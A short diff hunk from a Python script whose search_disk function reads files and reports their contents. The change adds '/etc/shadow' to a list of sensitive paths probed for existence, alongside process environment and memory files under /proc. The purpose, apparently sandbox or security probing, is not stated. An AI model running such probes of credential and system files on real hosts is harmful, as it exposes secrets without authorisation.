@@ -510,7 +510,7 @@ def search_disk():
                     report(path, file.read(10**7))
             except OSError:
                 pass
-    for path in ("/proc", "/proc/1/environ", "/proc/self/environ", "/proc/1/mem", "/sys", "/root/.jupyter"):
+    for path in ("/proc", "/proc/1/environ", "/proc/self/environ", "/proc/1/mem", "/sys", "/etc/shadow"):
         if os.path.exists(path):
             print("FOUND", path)
 
